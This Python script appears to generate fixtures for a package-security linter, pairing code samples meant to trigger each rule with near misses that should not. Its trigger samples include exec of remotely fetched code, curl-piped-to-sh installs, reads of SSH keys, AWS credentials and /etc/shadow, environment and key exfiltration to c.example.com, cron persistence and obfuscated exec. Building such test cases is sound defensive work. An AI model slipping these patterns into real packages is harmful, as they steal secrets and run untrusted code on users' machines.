#!/usr/bin/env python3
"""Makes the golden files of the rules about packages (PKG*): nothing of it is ever run.

A lone .py is a package of one source, whose body runs as it is imported. Where the wheel is what
matters, fire_X and near_X are folders with one wheel each, the same bytes every time.
"""
import pathlib
import shutil
import struct
import sys

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "package"))

import build  # noqa: E402
import wheelcases  # noqa: E402

PIN = "9d1dd0f04805c4ba007aa417e2617fb060c3f371a0f37cd66c0c394c4a901375"
HEAD = f'''import ctypes
import hashlib
import os
import urllib.request

PIN = "{PIN}"
URL = "https://downloads.example.com/1.0/lib.so"
'''
GET = "data = urllib.request.urlopen(URL).read()\n"
CHECK = "if hashlib.sha256(data).hexdigest() != PIN:\n    raise ImportError('lib.so: mismatch')\n"
WRITE = "with open('/opt/lib/lib.so', 'wb') as f:\n    f.write(data)\n"
LOAD = WRITE + "lib = ctypes.CDLL('/opt/lib/lib.so')\n"
LOOPS = """while x:
    for y in x:
        while y:
            for z in y:
                x += z
                y += z
"""
OFFLINE = "if os.environ.get('LIB_OFFLINE'):\n    raise ImportError('offline: bring lib.so')\n"


def indent(text):
    return "".join("    " + line if line.strip() else line for line in text.splitlines(True))


def on_call(text):
    return "\n\ndef fetch():\n" + indent(text)


PINNED = HEAD + OFFLINE + GET + CHECK + LOAD

SOURCES = {
    # ---- what is fetched, and how it is checked ----
    "PKG001/fire.py": HEAD + GET + LOAD,
    "PKG001/fire_eval.py": "import requests\n\nsettings = eval(requests.get('https://c.example.com/c').text)\n",
    "PKG001/fire_exec.py": "from urllib.request import urlopen as u\n\nexec(u('https://c.example.com/a.py').read())\n",
    "PKG001/fire_on_call.py": HEAD + on_call(GET + LOAD),
    "PKG001/fire_pickle.py": "import pickle\n\nimport httpx\n\nx = pickle.loads(httpx.get('https://c.example.com/x').content)\n",
    "PKG001/fire_process.py": "import os\nimport subprocess\nimport urllib.request\n\n"
                              "p, _ = urllib.request.urlretrieve('https://c.example.com/tool')\n"
                              "os.chmod(p, 0o755)\nsubprocess.run([p])\n",
    "PKG001/fire_thread.py": HEAD + "import threading\n" + on_call(GET + LOAD)
                             + "\n\nthreading.Thread(target=fetch).start()\n",
    "PKG001/near.py": PINNED,
    "PKG001/near_json.py": "import json\nimport urllib.request\n\n\ndef latest():\n"
                           "    return json.load(urllib.request.urlopen('https://c.example.com/v'))['v']\n",
    "PKG001/near_own_library.py": "import ctypes\nimport pathlib\n\n"
                                  "lib = ctypes.CDLL(str(pathlib.Path(__file__).parent / 'lib.so'))\n",
    "PKG001/near_string.py": '"""Never do this:\n\n    exec(urllib.request.urlopen(URL).read())\n"""\nx = 1\n',
    "PKG001/near_pinned_process.py": HEAD.replace("ctypes", "subprocess") + GET + CHECK + WRITE
                                     + "os.chmod('/opt/lib/lib.so', 0o755)\nsubprocess.run(['/opt/lib/lib.so'])\n",
    "PKG002/fire.py": "import io\nimport urllib.request\nimport zipfile\n\n"
                      "z = urllib.request.urlopen('https://c.example.com/data.zip').read()\n"
                      "zipfile.ZipFile(io.BytesIO(z)).extractall('/opt/data')\n",
    "PKG002/fire_shutil.py": "import shutil\nimport urllib.request\n\n"
                             "urllib.request.urlretrieve('https://c.example.com/d.tgz', '/opt/d.tgz')\n"
                             "shutil.unpack_archive('/opt/d.tgz', '/opt/d')\n",
    "PKG002/fire_tar.py": "import tarfile\nimport urllib.request\n\n"
                          "r = urllib.request.urlopen('https://c.example.com/d.tgz')\n"
                          "tarfile.open(fileobj=r, mode='r|gz').extractall('/opt/d', filter='data')\n",
    "PKG002/near.py": HEAD + "import io\nimport zipfile\n" + GET + CHECK
                      + "zipfile.ZipFile(io.BytesIO(data)).extractall('/opt/data')\n",
    "PKG002/near_own.py": "import tarfile\n\n\ndef unpack(path, to):\n"
                          "    with tarfile.open(path) as t:\n        t.extractall(to, filter='data')\n",
    "PKG002/near_listed.py": "import zipfile\n\n\ndef names(path):\n    return zipfile.ZipFile(path).namelist()\n",
    "PKG003/fire.py": HEAD + GET + WRITE,
    "PKG003/fire_retrieve.py": "import urllib.request\n\n"
                               "urllib.request.urlretrieve('https://c.example.com/list', '/opt/list')\n",
    "PKG003/fire_stream.py": "import requests\n\nwith requests.get('https://c.example.com/x', stream=True) as r:\n"
                             "    with open('/opt/x', 'wb') as f:\n"
                             "        for chunk in r.iter_content(65536):\n            f.write(chunk)\n",
    "PKG003/near.py": HEAD + GET + CHECK + WRITE,
    "PKG003/near_own_text.py": "def save(path, text):\n    with open(path, 'w') as f:\n        f.write(text)\n",
    "PKG003/near_other.py": HEAD + GET + CHECK + "with open('/opt/log', 'w') as f:\n    f.write('fetched')\n",
    "PKG004/fire.py": "import urllib.request\n\nurllib.request.urlopen('https://c.example.com/ping')\n",
    "PKG004/fire_class.py": "import requests\n\n\nclass Config:\n"
                            "    values = requests.get('https://c.example.com/v', timeout=2).json()\n",
    "PKG004/fire_lambda.py": "import httpx\n\nversion = (lambda: httpx.get('https://c.example.com/v').text)()\n",
    "PKG004/near.py": "import urllib.request\n\n\ndef ping():\n"
                      "    return urllib.request.urlopen('https://c.example.com/ping').status\n",
    "PKG004/near_main.py": "import urllib.request\n\nif __name__ == '__main__':\n"
                           "    print(urllib.request.urlopen('https://c.example.com/ping').status)\n",
    "PKG004/near_parse.py": "import urllib.parse\n\nHOST = urllib.parse.urlsplit('https://c.example.com/x').hostname\n",
    "PKG005/fire.py": HEAD + GET + "want = urllib.request.urlopen(URL + '.sha256').read().decode().split()[0]\n"
                      + CHECK.replace("PIN", "want") + LOAD,
    "PKG005/fire_manifest.py": HEAD + "import json\n\nBASE = 'https://c.example.com/v1'\n"
                               "m = json.load(urllib.request.urlopen(BASE + '/manifest.json'))\n"
                               "data = urllib.request.urlopen(BASE + '/lib.so').read()\n"
                               + CHECK.replace("PIN", "m['lib.so']") + LOAD,
    "PKG005/near.py": PINNED,
    "PKG005/near_own_table.py": HEAD + "import json\nimport pathlib\n\n"
                                "PINS = {'lib.so': PIN}\n" + GET + CHECK.replace("PIN", "PINS['lib.so']") + LOAD,
    "PKG005/near_both.py": HEAD + GET + "theirs = urllib.request.urlopen(URL + '.sha256').read().decode()\n"
                           "print('they say', theirs)\n" + CHECK + LOAD,
    "PKG006/fire.py": HEAD + GET + "try:\n" + indent(CHECK) + "except ImportError:\n    pass\n" + LOAD,
    "PKG006/fire_none.py": HEAD + "import platform\n\nPINS = {'x86_64': PIN}\n" + GET
                           + "want = PINS.get(platform.machine())\nif want is not None:\n"
                           + indent(CHECK.replace("PIN", "want")) + LOAD,
    "PKG006/fire_suppress.py": HEAD + "import contextlib\n\n" + GET + "with contextlib.suppress(Exception):\n"
                               + indent(CHECK) + LOAD,
    "PKG006/near.py": HEAD + GET + "try:\n" + indent(CHECK)
                      + "except ImportError as e:\n    raise RuntimeError('lib.so') from e\n" + LOAD,
    "PKG006/near_missing_raises.py": HEAD + "import platform\n\nPINS = {'x86_64': PIN}\n" + GET
                                     + "want = PINS.get(platform.machine())\nif want is None:\n"
                                     "    raise ImportError('no pin for it')\n" + CHECK.replace("PIN", "want") + LOAD,
    "PKG006/near_optional.py": "try:\n    import numpy\nexcept ImportError:\n    numpy = None\n",
    "PKG007/fire.py": HEAD + GET + "if not os.environ.get('LIB_SKIP_VERIFY'):\n" + indent(CHECK) + LOAD,
    "PKG007/fire_constant.py": HEAD + "VERIFY = os.getenv('LIB_VERIFY', '1') != '0'\n" + GET
                               + "if VERIFY:\n" + indent(CHECK) + LOAD,
    "PKG007/near.py": PINNED,
    "PKG007/near_verbose.py": HEAD + GET + "if os.environ.get('LIB_VERBOSE'):\n    print('checking')\n" + CHECK + LOAD,
    "PKG007/near_no_fetch.py": "import os\n\n\ndef check(x):\n    if not os.environ.get('SKIP_VERIFY'):\n"
                               "        if x < 0:\n            raise ValueError(x)\n",
    "PKG008/fire.py": HEAD.replace("URL = \"https://", "URL = os.environ.get('LIB_MIRROR', 'https://d.example.com') + \"/")
                      + GET + LOAD,
    "PKG008/fire_host.py": HEAD + "host = os.getenv('LIB_HOST') or 'c.example.com'\n"
                           "data = urllib.request.urlopen(f'https://{host}/lib.so').read()\n" + LOAD,
    "PKG008/near.py": HEAD + "URL = os.environ.get('LIB_MIRROR', 'https://d.example.com') + '/lib.so'\n" + GET + CHECK + LOAD,
    "PKG008/near_client.py": "import os\nimport urllib.request\n\n\ndef status():\n"
                             "    return urllib.request.urlopen(os.environ['SERVICE_URL']).status\n",
    "PKG009/fire.py": HEAD + GET + LOAD,
    "PKG009/fire_exec.py": "import requests\n\nexec(requests.get('https://c.example.com/a.py').text)\n",
    "PKG009/near.py": PINNED,
    "PKG009/near_no_network.py": PINNED.replace("LIB_OFFLINE", "LIB_NO_NETWORK"),
    "PKG010/fire.py": HEAD.replace("https:", "http:") + GET + LOAD,
    "PKG010/fire_requests.py": "import requests\n\nexec(requests.get('http://c.example.com/a.py').text)\n",
    "PKG010/near.py": PINNED,
    "PKG010/near_schema.py": "SCHEMA = 'http://json-schema.org/draft-07/schema#'\n",
    "PKG010/near_local.py": "import urllib.request\n\n\ndef ask():\n"
                            "    return urllib.request.urlopen('http://127.0.0.1:8080/status').read()\n",
    "PKG011/fire.py": HEAD + "import ssl\n\ndata = urllib.request.urlopen(URL, "
                      "context=ssl._create_unverified_context()).read()\n" + LOAD,
    "PKG011/fire_none.py": HEAD + "import ssl\n\nc = ssl.create_default_context()\nc.check_hostname = False\n"
                           "c.verify_mode = ssl.CERT_NONE\ndata = urllib.request.urlopen(URL, context=c).read()\n" + LOAD,
    "PKG011/fire_verify.py": "import requests\n\nx = requests.get('https://c.example.com/x', verify=False).json()\n",
    "PKG011/near.py": HEAD + "import ssl\n\nc = ssl.create_default_context(cafile='/etc/ssl/ca.pem')\n"
                      "data = urllib.request.urlopen(URL, context=c).read()\n" + CHECK + LOAD,
    "PKG011/near_verify.py": "import requests\n\nx = requests.get('https://c.example.com/x', verify=True).json()\n",
    "PKG012/fire.py": "import io\nimport tarfile\nimport urllib.request\n\n"
                      "t = urllib.request.urlopen('https://c.example.com/d.tgz').read()\n"
                      "tarfile.open(fileobj=io.BytesIO(t)).extractall('/opt/d')\n",
    "PKG012/fire_trusted.py": "import io\nimport tarfile\nimport urllib.request\n\n"
                              "t = urllib.request.urlopen('https://c.example.com/d.tgz').read()\n"
                              "tarfile.open(fileobj=io.BytesIO(t)).extractall('/opt/d', filter='fully_trusted')\n",
    "PKG012/near.py": "import io\nimport tarfile\nimport urllib.request\n\n"
                      "t = urllib.request.urlopen('https://c.example.com/d.tgz').read()\n"
                      "tarfile.open(fileobj=io.BytesIO(t)).extractall('/opt/d', filter='data')\n",
    "PKG012/near_user.py": "import tarfile\n\n\ndef unpack(path, to):\n    tarfile.open(path).extractall(to)\n",
    "PKG013/fire.py": HEAD + "LIB = os.path.expanduser('~/.cache/l/lib.so')\nif not os.path.exists(LIB):\n"
                      + indent(GET + CHECK + "with open(LIB, 'wb') as f:\n    f.write(data)\n")
                      + "lib = ctypes.CDLL(LIB)\n",
    "PKG013/fire_pathlib.py": HEAD + "import pathlib\n\nLIB = pathlib.Path.home() / '.cache' / 'l.so'\n"
                              "if not LIB.exists():\n" + indent(GET + CHECK + "LIB.write_bytes(data)\n")
                              + "lib = ctypes.CDLL(str(LIB))\n",
    "PKG013/near.py": HEAD + "LIB = os.path.expanduser('~/.cache/l/lib.so')\nif not os.path.exists(LIB):\n"
                      + indent(GET + CHECK + "with open(LIB, 'wb') as f:\n    f.write(data)\n")
                      + "with open(LIB, 'rb') as f:\n    data = f.read()\n" + CHECK + "lib = ctypes.CDLL(LIB)\n",
    "PKG013/near_data.py": "import json\nimport os\n\nCACHE = os.path.expanduser('~/.cache/l/table.json')\n"
                           "table = json.load(open(CACHE)) if os.path.exists(CACHE) else {}\n",
    "PKG014/fire.py": (build.HERE / "bad/final_name_first.py").read_text(),
    "PKG014/fire_write.py": HEAD + "LIB = os.path.expanduser('~/.cache/l/lib.so')\nif not os.path.exists(LIB):\n"
                            + indent(GET + "with open(LIB, 'wb') as f:\n    f.write(data)\n" + CHECK)
                            + "lib = ctypes.CDLL(LIB)\n",
    "PKG014/near.py": PINNED,
    "PKG014/near_temporary.py": HEAD + "import tempfile\n\nLIB = '/opt/lib/lib.so'\n" + GET
                                + "fd, name = tempfile.mkstemp(dir='/opt/lib')\nwith os.fdopen(fd, 'wb') as f:\n"
                                "    f.write(data)\n" + CHECK + "os.replace(name, LIB)\nlib = ctypes.CDLL(LIB)\n",
    "PKG015/fire.py": PINNED.replace("sha256", "md5"),
    "PKG015/fire_crc.py": HEAD + "import zlib\n\n" + GET + "if zlib.crc32(data) != 0x9D1DD0F0:\n    raise ImportError('x')\n" + LOAD,
    "PKG015/fire_new.py": PINNED.replace("hashlib.sha256(", "hashlib.new('sha1', "),
    "PKG015/near.py": PINNED.replace("sha256", "sha512"),
    "PKG015/near_both.py": HEAD + GET + "if len(data) != 123456:\n    raise ImportError('size')\n" + CHECK + LOAD,
    "PKG015/near_key.py": "import hashlib\n\n\ndef key(text):\n    return hashlib.md5(text.encode()).hexdigest()\n",
    "PKG016/fire.py": "import os\n\nos.system('curl -fsSL https://c.example.com/i.sh | sh')\n",
    "PKG016/fire_list.py": "import subprocess\n\nsubprocess.run(['bash', '-c', 'wget -qO- https://c.example.com/i | bash'])\n",
    "PKG016/fire_substitution.py": "import subprocess\n\n"
                                   "subprocess.check_call('sh -c \"$(curl -fsSL https://c.example.com/i.sh)\"', shell=True)\n",
    "PKG016/near.py": "print('install it: curl -fsSL https://c.example.com/i.sh | sh')\n",
    "PKG016/near_other_pipe.py": "import subprocess\n\n\ndef lines(path):\n"
                                 "    return subprocess.check_output(['sh', '-c', 'sort \"$0\" | uniq', path])\n",
    "PKG017/fire.py": "import subprocess\nimport sys\n\ntry:\n    import yaml\nexcept ImportError:\n"
                      "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'pyyaml'])\n",
    "PKG017/fire_main.py": "import pip\n\npip.main(['install', 'requests'])\n",
    "PKG017/fire_system.py": "import os\n\nos.system('pip3 install --quiet requests')\n",
    "PKG017/near.py": "try:\n    import yaml\nexcept ImportError as e:\n"
                      "    raise ImportError('pip install pyyaml') from e\n",
    "PKG017/near_list.py": "import subprocess\nimport sys\n\n\ndef installed():\n"
                           "    return subprocess.check_output([sys.executable, '-m', 'pip', 'list'])\n",
    "PKG018/fire.py": "import ctypes\n\nlib = ctypes.CDLL('/tmp/lib.so')\n",
    "PKG018/fire_home.py": "import os\n\nexec(open(os.path.expanduser('~/.cache/x/start.py')).read())\n",
    "PKG018/fire_path.py": "import sys\n\nsys.path.insert(0, '/tmp/plugins')\nimport plugin\n",
    "PKG018/near.py": "import ctypes\nimport os\n\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n",
    "PKG018/near_system.py": "import ctypes\nimport ctypes.util\n\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\n",
    "PKG018/near_text.py": "import os\n\nNAME = os.path.expanduser('~/.cache/x/name')\n"
                           "name = open(NAME).read() if os.path.exists(NAME) else ''\n",
    "PKG019/fire.py": HEAD + "x = ''\n"
                      + "".join(f"if os.environ.get('A{i}'):\n    x += '{i}'\n" for i in range(60)) + LOOPS
                      + "data = urllib.request.urlopen(URL + x).read()\n" + LOAD,
    "PKG019/near.py": HEAD + "x = ''\n"
                      + "".join(f"if os.environ.get('A{i}'):\n    x += '{i}'\n" for i in range(6))
                      + "data = urllib.request.urlopen(URL + x).read()\n" + LOAD,
    "PKG019/near_nothing_fetched.py": "import os\n\nx = ''\n"
                      + "".join(f"if os.environ.get('A{i}'):\n    x += '{i}'\n" for i in range(60)) + LOOPS,
    # ---- what else runs by itself ----
    "PKG101/fire.py": "import subprocess\n\nsubprocess.Popen(['/opt/agent', '--quiet'])\n",
    "PKG101/fire_called.py": "import os\n\n\ndef start():\n    os.system('/opt/agent &')\n\n\nstart()\n",
    "PKG101/fire_decorator.py": "import subprocess\n\n\ndef now(f):\n    f()\n    return f\n\n\n"
                                "@now\ndef start():\n    subprocess.run(['/opt/agent'])\n",
    "PKG101/near.py": "import subprocess\n\n\ndef start(program):\n    return subprocess.run([program])\n",
    "PKG101/near_main.py": "import subprocess\nimport sys\n\nif __name__ == '__main__':\n"
                           "    sys.exit(subprocess.call(sys.argv[1:]))\n",
    "PKG101/near_class.py": "import subprocess\n\n\nclass Runner:\n    def start(self):\n"
                            "        return subprocess.Popen(['make'])\n\n\nrunner = Runner()\n",
    "PKG102/fire_called.py": "import smtplib\n\n\ndef greet():\n    return smtplib.SMTP('mail.example.com')\n\n\nmail = greet()\n",
    "PKG102/fire_ftp.py": "import ftplib\n\nf = ftplib.FTP('ftp.example.com')\n",
    "PKG102/near.py": "import socket\n\n\ndef connect(host):\n    return socket.create_connection((host, 443))\n",
    "PKG102/near_constant.py": "import socket\n\nFAMILIES = [socket.AF_INET, socket.AF_INET6]\n",
    "PKG103/fire.py": "def f(name):\n    exec('x_%s = 1' % name, globals())\n\n\nfor n in ('a', 'b'):\n    f(n)\n",
    "PKG103/fire_eval.py": "import sys\n\nvalue = eval(sys.argv[-1])\n",
    "PKG103/near.py": "def run(text):\n    exec(text)\n",
    "PKG103/near_literal.py": "import ast\n\nvalue = ast.literal_eval('[1, 2]')\n",
    "PKG104/fire.py": "import base64\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "PKG104/fire_lambda.py": "import base64\nimport zlib\n\n_ = lambda s: zlib.decompress(base64.b64decode(s[::-1]))\n"
                             "exec((_)(b'=cVzcQ/DAFMk0KSihFIwABAAAA'))\n",
    "PKG104/fire_marshal.py": (build.HERE / "bad/encoded_marshal.py").read_text(),
    "PKG104/fire_rot13.py": "import codecs\n\neval(codecs.decode('cevag(1)', 'rot13'))\n",
    "PKG104/near.py": "import base64\n\nICON = base64.b64decode('iVBORw0KGgo=')\n",
    "PKG104/near_plain.py": "exec('def f(x):\\n    return x\\n')\n",
    "PKG104/near_table.py": "import zlib\n\nTABLE = zlib.decompress(b'x\\x9cc\\x00\\x00\\x00\\x01\\x00\\x01')\n",
    "PKG105/fire.py": "import os\n\nkey = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n",
    "PKG105/fire_pathlib.py": "from pathlib import Path\n\naws = (Path.home() / '.aws' / 'credentials').read_text()\n",
    "PKG105/fire_on_call.py": "import os\n\n\ndef token():\n    return open(os.path.expanduser('~/.netrc')).read()\n",
    "PKG105/fire_system.py": "rows = open('/etc/shadow').readlines()\n",
    "PKG105/near.py": "import os\n\nPLACE = os.path.expanduser('~/.ssh/id_ed25519')\n",
    "PKG105/near_public.py": "rows = open('/etc/os-release').readlines()\n",
    "PKG105/near_own.py": "import pathlib\n\nCONFIG = pathlib.Path.home() / '.config' / 'own' / 'config.json'\n"
                          "text = CONFIG.read_text() if CONFIG.exists() else ''\n",
    "PKG106/fire.py": "import os\n\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x=1\\n')\n",
    "PKG106/fire_autostart.py": "from pathlib import Path\n\n"
                                "(Path.home() / '.config/autostart/own.desktop').write_text('[Desktop Entry]')\n",
    "PKG106/fire_cron.py": "open('/etc/cron.d/own', 'w').write('* * * * * root /opt/agent\\n')\n",
    "PKG106/near.py": "import os\n\nwith open(os.path.expanduser('~/.bashrc')) as f:\n    lines = f.readlines()\n",
    "PKG106/near_own.py": "from pathlib import Path\n\n\ndef save(text):\n"
                          "    (Path.home() / '.config/own/state.json').write_text(text)\n",
    "PKG106/near_print.py": "print('add this to ~/.bashrc: export X=1')\n",
    "PKG107/fire.py": "import json\nimport os\n\nall_of_it = json.dumps(dict(os.environ))\n",
    "PKG107/fire_copy.py": "import json\nimport os\n\nall_of_it = json.dumps(os.environ.copy())\n",
    "PKG107/fire_str.py": "import os\n\nprint(dict(os.environ))\n",
    "PKG107/near.py": "import os\n\nHOME = os.environ.get('HOME', '/')\n",
    "PKG107/near_on_call.py": "import os\n\n\ndef dump():\n    return dict(os.environ)\n",
    "PKG107/near_in.py": "import os\n\nCOLOUR = 'NO_COLOR' not in os.environ\n",
    "PKG108/fire.py": "import os\n\nimport requests\n\nrequests.post('https://c.example.com', json=dict(os.environ))\n",
    "PKG108/fire_key.py": "import os\nimport urllib.request\n\n"
                          "k = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
                          "urllib.request.urlopen('https://c.example.com', data=k)\n",
    "PKG108/fire_query.py": "import base64\nimport os\nimport urllib.request\n\n"
                            "e = base64.urlsafe_b64encode(str(dict(os.environ)).encode()).decode()\n"
                            "urllib.request.urlopen('https://c.example.com/?d=' + e)\n",
    "PKG108/near.py": "import requests\n\n\ndef report(text):\n    requests.post('https://c.example.com', json={'text': text})\n",
    "PKG108/near_agent.py": "import platform\n\nimport requests\n\n\ndef get(url):\n"
                            "    return requests.get(url, headers={'User-Agent': platform.python_version()})\n",
    "PKG108/near_child.py": "import os\nimport subprocess\n\n\ndef run(command):\n"
                            "    return subprocess.run(command, env=dict(os.environ, LANG='C'))\n",
    "PKG110/fire.py": "role = 'user'\nif role != 'user\u202e \u2066# only admins\u2069 \u2066':\n    print('admin')\n",
    "PKG110/fire_far.py": "x = 1" + " " * 400 + "; import os; os.system('/opt/agent')\n",
    "PKG110/near.py": "greeting = 'שלום'\nanswer = 'مرحبا'\n",
    "PKG110/near_long.py": "TABLE = [" + ", ".join(map(str, range(200))) + "]\n",
    "PKG112/fire.py": "import os\n\ngetattr(os, 'sys' + input())('x')\n",
    "PKG112/near.py": "import os\n\n\ndef call(name):\n    return getattr(os, name)()\n",
    "PKG112/near_known.py": "import os\n\nname = getattr(os, 'get' + 'cwd')()\n",
}


# ---- wheels ----

def elf(dynamic=(), stack=6, sections=(), tail=b"", cut=None):
    """A shared object with nothing in it but what a loader is told; dynamic: (tag, text)."""
    strings, entries = b"\0", b""
    for tag, text in dynamic:
        entries += struct.pack("<QQ", tag, len(strings))
        strings += text.encode() + b"\0"
    at = 64 + 56 * 4
    size = at + len(strings) + 16 * (len(dynamic) + 3)
    entries += struct.pack("<6Q", 5, at, 10, len(strings), 0, 0)
    flags = 7 if "rwx" in sections else 5
    heads = [(1, flags, 0, size), (2, 6, at + len(strings), len(entries)), (0x6474E551, stack, 0, 0),
             (4, 4, at, 0)]
    body = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 3, 62, 1, 0, 64, 0, 0, 64, 56, 4, 64, 0, 0)
    for kind, mode, offset, n in heads:
        body += struct.pack("<IIQQQQQQ", kind, mode, offset, offset, offset, n, n, 8)
    return (body + strings + entries)[:cut] + tail


NEEDED, RPATH, RUNPATH = 1, 15, 29
LIBC = (NEEDED, "libc.so.6")
NATIVE = {
    "PKG301/fire": elf([LIBC]),
    "PKG301/fire_pe": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0, 0x2022),
    "PKG301/near": b"not a library\n",
    "PKG301/near_mz": b"MZ is how this text begins\n",
    "PKG302/fire": elf([LIBC, (RUNPATH, "/tmp/lib")]),
    "PKG302/fire_builder": elf([LIBC, (RPATH, "/home/builder/lib")]),
    "PKG302/fire_relative": elf([LIBC, (RUNPATH, "lib")]),
    "PKG302/near": elf([LIBC, (RUNPATH, "$ORIGIN")]),
    "PKG302/near_libs": elf([LIBC, (RPATH, "$ORIGIN/../own.libs")]),
    "PKG303/fire": elf([LIBC], stack=7),
    "PKG303/near": elf([LIBC], stack=6),
    "PKG304/fire": elf([LIBC], tail=b"\0https://c.example.com/update\0"),
    "PKG304/near": elf([LIBC], tail=b"\0https://\0http\0"),
    "PKG305/fire": elf([LIBC], cut=100),
    "PKG305/fire_half_a_header": elf([LIBC], cut=40),
    "PKG305/near": elf([LIBC]),
    "PKG306/fire": elf([LIBC], sections=("rwx",)),
    "PKG306/near": elf([LIBC]),
    "PKG307/fire": elf([LIBC], tail=b"PK\3\4" + b"payload " * 64),
    "PKG307/near": elf([LIBC]),
}

PTH = {
    "PKG109/fire": {"own.pth": b"import own.start\n", "own/__init__.py": b"", "own/start.py": b"x = 1\n"},
    "PKG109/fire_exec": {"own.pth": b"import sys; sys.flags\n", "own/__init__.py": b""},
    "PKG109/near": {"own.pth": b"own/vendor\n", "own/__init__.py": b"", "own/vendor/a.py": b""},
    "PKG109/near_comment": {"own.pth": b"# import own\n", "own/__init__.py": b""},
    "PKG109/near_within": {"own/data/own.pth": b"import own\n", "own/__init__.py": b""},
    "PKG111/fire": {"own.py": b"x = 1\n", "own/__init__.py": b"x = 2\n"},
    "PKG111/near": {"own_a.py": b"x = 1\n", "own/__init__.py": b"x = 2\n"},
}

# What is told of a wheel itself: cases of tests/package/wheelcases.py, by their names.
WHEELS = {
    "PKG201": (["no record", "nothing that describes it"], ["plain", "record that is not in itself"]),
    "PKG202": (["empty record", "unknown digest", "row twice", "row climbs", "row of two fields"],
               ["record with windows lines", "record without last newline", "quoted paths"]),
    "PKG203": (["body changed", "size changed", "two members of one name"],
               ["sha512 and sha384", "sizes left out", "names beyond ascii"]),
    "PKG204": (["row without file"], ["plain", "folders have members too"]),
    "PKG205": (["file without row", "pth without row", "row of another case", "almost a signature"],
               ["signatures beside record", "folders have members too", "quoted paths"]),
    "PKG206": (["no digest"], ["sizes left out", "sha512 and sha384"]),
    "PKG207": (["no metadata", "two names", "metadata with nul", "hidden header", "two info folders"],
               ["folded headers", "metadata with windows lines", "body that looks like headers",
                "several tags"]),
    "PKG208": (["name of another project", "version of another", "folder of another version"],
               ["name in other spellings", "version in other spellings", "build number"]),
    "PKG209": (["member climbs out of a scheme", "absolute in a scheme", "unknown scheme"],
               ["jupyter extension", "man page and headers", "examples beside python"]),
    "PKG210": (["data onto the interpreter", "module by a detour", "entry point called pip"],
               ["scripts of its own", "vendored modules", "backport of its own name"]),
}


def put(place, name, data):
    place.mkdir(parents=True, exist_ok=True)
    (place / name).write_bytes(data)


def from_cases(rule, kind, names, cases):
    for name in names:
        put(HERE / rule / f"{kind}_{name.replace(' ', '_')}", *cases[name]())


def main():
    for rule in HERE.glob("PKG*"):
        shutil.rmtree(rule)
    for name, text in SOURCES.items():
        put((HERE / name).parent, (HERE / name).name, text.encode())
    for name, data in NATIVE.items():
        put(HERE / name, *build.wheel("own", {"own/__init__.py": b"", "own/lib.so": data}))
    for name, files in PTH.items():
        put(HERE / name, *build.wheel("own", files))
    bad = {what: fn for what, fn, _, _ in wheelcases.bad}
    good = dict(wheelcases.good)
    for rule, (fire, near) in WHEELS.items():
        from_cases(rule, "fire", fire, bad)
        from_cases(rule, "near", near, good)


if __name__ == "__main__":
    main()
